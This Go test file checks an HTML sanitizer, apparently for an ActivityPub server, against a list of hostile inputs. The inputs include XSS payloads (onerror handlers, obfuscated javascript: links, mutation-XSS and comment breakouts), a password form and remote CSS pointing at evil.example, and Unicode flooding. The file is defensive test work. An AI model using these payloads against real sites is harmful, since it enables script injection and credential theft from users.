package markup

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// F138, F140, F145: whatever comes, what is shown has only harmless elements
// and leads only to the web.
var hostileHTML = []string{
	`<script>alert(1)</script>x`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)><animate/></svg>`, `<svg><script>alert(1)</script></svg>`,
	`<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<form action="https://evil.example"><input name=password></form>`, `<style>@import "https://evil.example/x.css"</style>`, `<p style="background:url(https://evil.example)">x</p>`,
	`<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=https://evil.example">`, `<link rel=stylesheet href="https://evil.example">`,
	`<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<a href="javascript:alert(1)">x</a>`, "<a href=\"JaVa\tScript:alert(1)\">x</a>", `<a href="&#106;avascript:alert(1)">x</a>`, `<a href="data:text/html,x">x</a>`, `<a href="vbscript:x">x</a>`,
	`<a href="//evil.example">x</a>`, `<a href="/office">x</a>`, `<a href=" https://good.example/" onclick="x()" target=_top style="x" id="y">x</a>`, `<a name="x" href="https://good.example/" rel="me">x</a>`,
	`<p onmouseover=alert(1) class="office-button">x</p>`, `<span class="mention danger">x</span>`, `<b onmouseover=x>"><script>`, `</title><script>alert(1)</script>`,
	`<p><table><tr><td>x</td></tr></table>`, `<h1>x</h1><video src="https://evil.example/v"></video><audio src=x></audio><object data=x></object><embed src=x>`,
	"<p>\u202eevil\u200b\U000e0041</p>", "<p>e" + strings.Repeat("\u0301", 5000) + "</p>", `<<p>script>alert(1)<</p>/script>`, `<!--<img src="--><img src=x onerror=alert(1)>`, `<p/><br/><xmp><p>`, `<plaintext>x`,
}

func TestF138_F140_F145_Sanitize(t *testing.T) {
	for _, in := range hostileHTML {
		checkClean(t, in, Sanitize(in))
	}
}

func checkClean(t *testing.T, in, out string) {
	t.Helper()
	allowed := strings.Fields("p br span a ul ol li blockquote code pre strong em del sub sup q ruby rt rp")
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return
		case html.CommentToken, html.DoctypeToken:
			t.Errorf("%q: a comment or doctype in %q", in, out)
		case html.StartTagToken, html.EndTagToken, html.SelfClosingTagToken:
			token := z.Token()
			if !slices.Contains(allowed, token.Data) {
				t.Errorf("%q: element %s in %q", in, token.Data, out)
			}
			for _, a := range token.Attr {
				checkAttribute(t, out, token.Data, a)
			}
		}
	}
}

func checkAttribute(t *testing.T, out, element string, a html.Attribute) {
	t.Helper()
	switch {
	case element == "a" && a.Key == "href" && (strings.HasPrefix(a.Val, "https://") || strings.HasPrefix(a.Val, "http://")):
	case element == "a" && a.Key == "rel" && a.Val == "nofollow noopener noreferrer":
	case a.Key == "class" && (element == "a" || element == "span") && linkClass.MatchString(a.Val):
	case a.Key == "start" && element == "ol" || a.Key == "value" && element == "li":
	default:
		t.Errorf("attribute %s=%q of %s in %q", a.Key, a.Val, element, out)
	}
}

func TestSanitizeKeeps(t *testing.T) {
	for in, want := range map[string]string{
		`<p>Un <strong>fait</strong>, <em>vu</em><br>ici</p>`:                                      `<p>Un <strong>fait</strong>, <em>vu</em><br>ici</p>`,
		`<ul><li>a</li></ul><blockquote>b</blockquote><pre><code>c</code></pre>`:                   `<ul><li>a</li></ul><blockquote>b</blockquote><pre><code>c</code></pre>`,
		`<a href="https://good.example/?a=1&amp;b=2">x</a>`:                                        `<a href="https://good.example/?a=1&amp;b=2" rel="nofollow noopener noreferrer">x</a>`,
		`<a href="https://good.example/@pat" class="u-url mention" rel="me">@<span>pat</span></a>`: `<a href="https://good.example/@pat" class="u-url mention" rel="nofollow noopener noreferrer">@<span>pat</span></a>`,
		"<p>👩\u200d💻 e\u0301</p>":                                                                  "<p>👩\u200d💻 e\u0301</p>",
		"<p>a\u202eb\u200bc</p>":                                                                   "<p>abc</p>",
		"<p>" + strings.Repeat("\u0301", 5000):                                                     "<p>" + strings.Repeat("\u0301", maxCombining),
		"<p>a&#8238;b&#x200b;c</p>":                                                                "<p>abc</p>",
		"<p>" + strings.Repeat("&#769;<span>&#769;</span>", 50) + "</p>":                           "<p>\u0301<span>\u0301</span>\u0301<span>\u0301</span>\u0301" + strings.Repeat("<span></span>", 48) + "</p>",
		`<script>x</script>`:                                                                       ``,
		`1 < 2 & 3`:                                                                                `1 &lt; 2 &amp; 3`,
	} {
		if got := Sanitize(in); got != want && got != want+"</p>" {
			t.Errorf("Sanitize(%.60q) = %.200q, want %.200q", in, got, want)
		}
	}
}

// What we write ourselves passes through unchanged but for marks on links.
func TestSanitizeOwn(t *testing.T) {
	notes, err := filepath.Glob("../activitypub/testdata/golden/note-*.json")
	if err != nil || len(notes) == 0 {
		t.Fatalf("%d notes, %v", len(notes), err)
	}
	for _, name := range notes {
		bytes, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		var note struct{ Content string }
		if err := json.Unmarshal(bytes, &note); err != nil || note.Content == "" {
			t.Fatalf("%s: %q, %v", name, note.Content, err)
		}
		clean := Sanitize(note.Content)
		checkClean(t, name, clean)
		if stripTags(clean) != stripTags(note.Content) {
			t.Errorf("%s: text changed:\n%s\n%s", name, note.Content, clean)
		}
	}
}

func stripTags(s string) string {
	var out strings.Builder
	z := html.NewTokenizer(strings.NewReader(s))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return out.String()
		case html.TextToken:
			out.Write(z.Text())
		}
	}
}

func FuzzSanitize(f *testing.F) {
	for _, s := range hostileHTML {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out := Sanitize(in)
		checkClean(t, in, out)
		if again := Sanitize(out); stripTags(again) != stripTags(out) {
			t.Errorf("not stable: %q, then %q", out, again)
		}
	})
}
